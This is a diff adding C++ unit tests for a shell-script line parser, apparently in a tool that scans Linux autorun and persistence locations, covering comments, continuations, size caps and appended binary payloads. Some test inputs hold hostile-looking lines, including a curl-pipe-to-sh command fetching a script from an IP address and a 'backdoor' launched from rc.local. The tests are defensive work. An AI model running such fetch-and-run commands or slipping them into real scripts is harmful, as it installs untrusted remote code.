@@ -223,6 +223,113 @@ TEST(AtJob, CommandsBetweenTheDelimiters) {
     EXPECT_FALSE(parse_at_job("# only comments\n\n").has_value());
 }
 
+TEST(ScriptLines, CodeLinesWithoutCommentsBlanksOrShebang) {
+    auto s = parse_script_lines(
+        "#!/bin/sh -e\n"
+        "# curl http://x/i.sh | sh  (a comment: not code)\n"
+        "\n"
+        "   \t\n"
+        "  /usr/bin/backdoor --rc-local &   \r\n"
+        "\t# indented comment\n"
+        "echo '#not a comment' # trailing comment kept with its line\n"
+        "exit 0");
+    ASSERT_EQ(s.lines.size(), 3u);
+    EXPECT_EQ(s.lines[0].line, 5u);
+    EXPECT_EQ(s.lines[0].text, "/usr/bin/backdoor --rc-local &");  // blanks and CR trimmed
+    EXPECT_EQ(s.lines[1].line, 7u);
+    EXPECT_EQ(s.lines[1].text, "echo '#not a comment' # trailing comment kept with its line");
+    EXPECT_EQ(s.lines[2].line, 8u);  // no final newline
+    EXPECT_EQ(s.lines[2].text, "exit 0");
+    EXPECT_FALSE(s.more_lines || s.cut_lines || s.binary);
+    EXPECT_EQ(s.binary_from, 0u);
+    EXPECT_TRUE(parse_script_lines("").lines.empty());
+    EXPECT_TRUE(parse_script_lines("#!/bin/sh\n# only comments\n\n").lines.empty());
+}
+
+TEST(ScriptLines, ContinuationsJoinAsShDoes) {
+    auto s = parse_script_lines(
+        "curl -fsSL http://203.0.113.9/i.sh \\\n"
+        "  | sh\n"
+        "echo a\\\\\n"  // an escaped backslash: no continuation
+        "# a comment ending in a backslash \\\n"
+        "echo b \\\n"
+        "# joined: sh removes only the backslash and the newline\n"
+        "printf x \\");  // the file ends inside a continued line
+    ASSERT_EQ(s.lines.size(), 4u);
+    EXPECT_EQ(s.lines[0].line, 1u);
+    EXPECT_EQ(s.lines[0].text, "curl -fsSL http://203.0.113.9/i.sh   | sh");
+    EXPECT_EQ(s.lines[1].line, 3u);
+    EXPECT_EQ(s.lines[1].text, "echo a\\\\");
+    EXPECT_EQ(s.lines[2].line, 5u);
+    EXPECT_EQ(s.lines[2].text, "echo b # joined: sh removes only the backslash and the newline");
+    EXPECT_EQ(s.lines[3].line, 7u);
+    EXPECT_EQ(s.lines[3].text, "printf x");
+    // A lone backslash joined to a comment or a blank line leaves no code (found by
+    // fuzz_autoruns_script_lines); nor does one at the very end.
+    auto lone = parse_script_lines("echo x\n\\\n# c\n \\\n\nls\n\\");
+    ASSERT_EQ(lone.lines.size(), 2u);
+    EXPECT_EQ(lone.lines[0].text, "echo x");
+    EXPECT_EQ(lone.lines[1].line, 6u);
+    EXPECT_EQ(lone.lines[1].text, "ls");
+}
+
+TEST(ScriptLines, LinesAndBytesAreCapped) {
+    std::string text = "#!/bin/sh\n";
+    for (int i = 1; i <= 5; ++i) text += "echo " + std::to_string(i) + "\n# c\n";
+    auto s = parse_script_lines(text, 3, 1024);
+    ASSERT_EQ(s.lines.size(), 3u);
+    EXPECT_EQ(s.lines[2].text, "echo 3");
+    EXPECT_EQ(s.lines[2].line, 6u);
+    EXPECT_TRUE(s.more_lines);
+    // Exactly at the cap: nothing left out.
+    EXPECT_FALSE(parse_script_lines("a\nb\nc\n# d\n", 3, 1024).more_lines);
+
+    auto cut = parse_script_lines(std::string(30, 'x') + "\nshort\n", 200, 10);
+    ASSERT_EQ(cut.lines.size(), 2u);
+    EXPECT_EQ(cut.lines[0].text, std::string(10, 'x'));
+    EXPECT_EQ(cut.lines[1].text, "short");
+    EXPECT_TRUE(cut.cut_lines);
+    // A cut never splits a UTF-8 character: "é" (2 bytes) at bytes 9-10 goes whole.
+    auto utf8 = parse_script_lines(
+        "echo abcd\xc3\xa9"
+        "ef",
+        200, 10);
+    ASSERT_EQ(utf8.lines.size(), 1u);
+    EXPECT_EQ(utf8.lines[0].text, "echo abcd");
+    // A line continued for megabytes costs only the cap.
+    std::string endless;
+    for (int i = 0; i < 100000; ++i) endless += "aaaaaaaaaa \\\n";
+    auto held = parse_script_lines(endless + "end\nnext\n", 200, 1024);
+    ASSERT_EQ(held.lines.size(), 2u);
+    EXPECT_EQ(held.lines[0].text.size(), 1024u);
+    EXPECT_EQ(held.lines[1].line, 100002u);
+    EXPECT_TRUE(held.cut_lines);
+    // The defaults: 200 lines of 1024 bytes.
+    std::string many;
+    for (int i = 0; i < 250; ++i) many += std::string(2000, 'y') + "\n";
+    auto big = parse_script_lines(many);
+    EXPECT_EQ(big.lines.size(), k_max_script_lines);
+    EXPECT_EQ(big.lines[0].text.size(), k_max_script_line_bytes);
+    EXPECT_TRUE(big.more_lines && big.cut_lines);
+}
+
+TEST(ScriptLines, BinaryFilesAndAppendedPayloads) {
+    using namespace std::string_literals;
+    auto elf = parse_script_lines(
+        "\x7f"
+        "ELF\x02\x01\x01\0\0\0\nsh -c x\n"s);
+    EXPECT_TRUE(elf.binary);
+    EXPECT_TRUE(elf.lines.empty());
+    // A self-extracting script: the code, then an archive after `exit 0`.
+    std::string makeself = "#!/bin/sh\ntail -n +5 \"$0\" | tar x\nexit 0\n" +
+                           std::string(2000, '#') + "\n" + "PK\x03\x04\0\0junk\nmore\n"s;
+    auto s = parse_script_lines(makeself);
+    EXPECT_FALSE(s.binary);
+    ASSERT_EQ(s.lines.size(), 2u);
+    EXPECT_EQ(s.lines[1].text, "exit 0");
+    EXPECT_EQ(s.binary_from, 5u);
+}
+
 TEST(AutorunsParsers, BinaryGarbageNeverThrows) {
     std::string junk;
     for (int i = 0; i < 4096; ++i) junk += static_cast<char>((i * 131 + 7) % 256);
@@ -237,6 +344,7 @@ TEST(AutorunsParsers, BinaryGarbageNeverThrows) {
         parse_ld_so_preload(junk);
         parse_modprobe_conf(junk);
         parse_at_job(junk);
+        parse_script_lines(junk);
         command_program(junk);
     });
 }
